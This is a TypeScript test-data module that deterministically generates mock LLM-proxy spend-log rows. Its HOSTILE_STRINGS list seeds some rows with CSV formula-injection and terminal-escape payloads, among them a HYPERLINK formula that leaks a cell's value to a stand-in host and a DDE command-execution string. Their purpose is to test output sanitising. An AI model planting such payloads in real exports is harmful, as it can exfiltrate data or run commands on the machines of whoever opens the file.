// Spend-log datasets (§8): seeded rows, or rows generated lazily and deterministically from (seed, index).
import {hashKey} from './keys.js'
import {MODELS, pickModel} from './models.js'
import type {GenerateKeySpec, GenerateLogsOptions, SpendLogRow, SpendLogSeedRow} from './types.js'

/** Rows in ascending `startTime` order, addressable by index. */
export interface SpendDataset {
  readonly length: number
  /** `startTime` of row i in epoch ms (cheap: no row is built). */
  timeAt(i: number): number
  rowAt(i: number): SpendLogRow
}

/**
 * Cells that break naive CSV/terminal output: formula prefixes (= + - @ tab CR), separators and quotes,
 * newlines, non-ASCII, and ANSI/OSC escape sequences.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tleading-tab',
  '\rleading-cr',
  'comma, and "double quotes"',
  'multi\nline\nvalue',
  '🚀 rocket-team',
  '数据团队',
  'Zoë Ünïcødé',
  '\u001b[31mred-alert\u001b[0m',
  '\u001b]0;pwned-title\u0007',
]

/** murmur3-style finaliser of (seed, i): a well-mixed 32-bit value. */
function mix(seed: number, i: number): number {
  let h = Math.imul(seed ^ 0x9e3779b9, 0x85ebca6b) ^ Math.imul(i, 0xc2b2ae35)
  h = Math.imul(h ^ (h >>> 16), 0x85ebca6b)
  h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35)
  return (h ^ (h >>> 16)) >>> 0
}

/** mulberry32: a tiny PRNG, good enough for test data. */
function prng(state: number): () => number {
  let a = state
  return () => {
    a = (a + 0x6d2b79f5) | 0
    let t = Math.imul(a ^ (a >>> 15), 1 | a)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

const hex = (n: number, w: number): string => n.toString(16).padStart(w, '0').slice(-w)
const pick = <T>(xs: readonly T[], u: number): T => xs[Math.floor(u * xs.length)]!

/** Round to whole micro-dollars, so sums can be done exactly in integers. */
export const toMicros = (usd: number): number => Math.round(usd * 1e6)

interface ResolvedKey {
  alias: string
  hash: string
  team: string
}

export const DEFAULT_GENERATED_KEYS: readonly GenerateKeySpec[] = [
  {alias: 'openclaw'},
  {alias: 'ci-bot'},
  {alias: 'data-pipeline', team_id: 'team-data'},
  {alias: HOSTILE_STRINGS[1]!},
]

class GeneratedDataset implements SpendDataset {
  readonly length: number
  private readonly start: number
  private readonly span: number
  private readonly seed: number
  private readonly keys: ResolvedKey[]

  constructor(
    opts: GenerateLogsOptions,
    private readonly masterApiKey: string,
  ) {
    this.length = Math.max(0, Math.floor(opts.count))
    this.start = opts.start.getTime()
    this.span = Math.max(0, opts.end.getTime() - this.start)
    this.seed = opts.seed ?? 42
    const specs = opts.keys && opts.keys.length > 0 ? opts.keys : DEFAULT_GENERATED_KEYS
    this.keys = specs.map((k, idx) => ({
      alias: k.alias,
      hash: k.hash ?? hashKey(k.key ?? `sk-generated-${k.alias}`),
      team: k.team_id ?? (idx % 2 === 0 ? 'team-alpha' : 'team-beta'),
    }))
  }

  /** Evenly spread, non-decreasing over [start, end). */
  timeAt(i: number): number {
    return this.start + Math.floor((i * this.span) / Math.max(1, this.length))
  }

  rowAt(i: number): SpendLogRow {
    const r = prng(mix(this.seed, i))
    const startMs = this.timeAt(i)
    const isMaster = r() < 0.04
    const key = pick(this.keys, r())
    const model = pickModel(r())
    const failed = r() < 0.03
    const cacheRoll = r()
    const hostile = r() < 0.08
    const prompt = failed ? 0 : 20 + Math.floor(r() * 6000)
    const completion = failed ? 0 : 5 + Math.floor(r() * 1500)
    const spendMicros = failed ? 0 : toMicros(prompt * model.input + completion * model.output)
    const odd = (): string => pick(HOSTILE_STRINGS, r())
    const user = hostile && r() < 0.5 ? odd() : `user-${1 + Math.floor(r() * 12)}`
    const endUser = r() < 0.3 ? (hostile ? odd() : `customer-${1 + Math.floor(r() * 40)}`) : ''
    const team = isMaster ? null : hostile && r() < 0.3 ? odd() : key.team
    const tags = r() < 0.4 ? [hostile ? odd() : pick(['prod', 'staging', 'batch', 'agent'], r())] : []
    const rid = `${hex(mix(this.seed + 1, i), 8)}-${hex(mix(this.seed + 2, i), 4)}-4${hex(mix(this.seed + 3, i), 3)}-a${hex(i >>> 16, 3)}-${hex(i, 12)}`
    const apiKey = isMaster ? this.masterApiKey : key.hash
    return {
      request_id: rid,
      call_type: 'acompletion',
      api_key: apiKey,
      spend: spendMicros / 1e6,
      total_tokens: prompt + completion,
      prompt_tokens: prompt,
      completion_tokens: completion,
      startTime: new Date(startMs).toISOString(),
      endTime: new Date(startMs + 150 + Math.floor(r() * 20_000)).toISOString(),
      model: model.name,
      model_group: model.name,
      api_base: model.apiBase,
      custom_llm_provider: model.provider,
      user,
      end_user: endUser,
      team_id: team,
      request_tags: tags,
      cache_hit: cacheRoll < 0.05 ? 'True' : cacheRoll < 0.1 ? 'None' : 'False',
      cache_key: '',
      status: failed ? 'failure' : 'success',
      requester_ip_address: null,
      metadata: {
        user_api_key: apiKey,
        user_api_key_alias: isMaster ? null : key.alias,
        user_api_key_team_id: team,
        user_api_key_user_id: user,
        spend_logs_metadata: null,
        ...(failed ? {error_information: {error_class: 'RateLimitError', error_message: `litellm.RateLimitError: ${model.provider} rate limit`, error_code: '429', llm_provider: model.provider}} : {}),
      },
      messages: {},
      response: {},
      proxy_server_request: {},
      completionStartTime: null,
      request_duration_ms: null,
      litellm_call_id: null,
      session_id: null,
    }
  }
}

/** Fills the defaults of a seeded row; `i` keeps request ids unique. */
function normaliseSeed(s: SpendLogSeedRow, i: number, masterApiKey: string): SpendLogRow {
  const start = typeof s.startTime === 'string' ? new Date(s.startTime) : s.startTime
  const apiKey = s.api_key ?? masterApiKey
  const model = MODELS.find((m) => m.name === s.model) ?? MODELS[1]!
  const prompt = s.prompt_tokens ?? 0
  const completion = s.completion_tokens ?? 0
  return {
    request_id: s.request_id ?? `seed-${String(i).padStart(8, '0')}`,
    call_type: s.call_type ?? 'acompletion',
    api_key: apiKey,
    spend: s.spend ?? 0,
    total_tokens: s.total_tokens ?? prompt + completion,
    prompt_tokens: prompt,
    completion_tokens: completion,
    startTime: start.toISOString(),
    endTime: s.endTime ?? new Date(start.getTime() + 1000).toISOString(),
    model: s.model ?? model.name,
    model_group: s.model_group ?? s.model ?? model.name,
    api_base: s.api_base ?? model.apiBase,
    custom_llm_provider: s.custom_llm_provider ?? model.provider,
    user: s.user ?? '',
    end_user: s.end_user ?? '',
    team_id: s.team_id ?? null,
    request_tags: s.request_tags ?? [],
    cache_hit: s.cache_hit ?? 'False',
    cache_key: s.cache_key ?? '',
    status: s.status ?? 'success',
    requester_ip_address: s.requester_ip_address ?? null,
    metadata: {
      user_api_key: apiKey,
      user_api_key_alias: null,
      user_api_key_team_id: s.team_id ?? null,
      user_api_key_user_id: s.user ?? null,
      spend_logs_metadata: null,
      ...s.metadata,
    },
    messages: s.messages ?? {},
    response: s.response ?? {},
    proxy_server_request: s.proxy_server_request ?? {},
    completionStartTime: s.completionStartTime ?? null,
    request_duration_ms: s.request_duration_ms ?? null,
    litellm_call_id: s.litellm_call_id ?? null,
    session_id: s.session_id ?? null,
  }
}

class SeededDataset implements SpendDataset {
  private rows: SpendLogRow[]
  private times: Float64Array
  constructor(
    seed: SpendLogSeedRow[],
    private readonly masterApiKey: string,
  ) {
    const rows = seed.map((s, i) => normaliseSeed(s, i, masterApiKey))
    // Array.prototype.sort is stable, so equal timestamps keep their seeding order.
    this.rows = rows.sort((a, b) => Date.parse(a.startTime) - Date.parse(b.startTime))
    this.times = Float64Array.from(this.rows, (r) => Date.parse(r.startTime))
  }
  /** More rows, written later (a batch write): they may start before rows already there. */
  append(seed: SpendLogSeedRow[]): void {
    const more = seed.map((s, i) => normaliseSeed(s, this.rows.length + i, this.masterApiKey))
    this.rows = [...this.rows, ...more].sort((a, b) => Date.parse(a.startTime) - Date.parse(b.startTime))
    this.times = Float64Array.from(this.rows, (r) => Date.parse(r.startTime))
  }
  get length(): number {
    return this.rows.length
  }
  timeAt(i: number): number {
    return this.times[i]!
  }
  rowAt(i: number): SpendLogRow {
    return structuredClone(this.rows[i]!)
  }
}

export function appendToDataset(ds: SpendDataset, rows: SpendLogSeedRow[]): void {
  if (!(ds instanceof SeededDataset)) throw new Error('appendSpendLogs: only a seeded dataset (logs: {rows}) can grow')
  ds.append(rows)
}

export function seededDataset(rows: SpendLogSeedRow[], masterApiKey: string): SpendDataset {
  return new SeededDataset(rows, masterApiKey)
}

export function generatedDataset(opts: GenerateLogsOptions, masterApiKey: string): SpendDataset {
  return new GeneratedDataset(opts, masterApiKey)
}
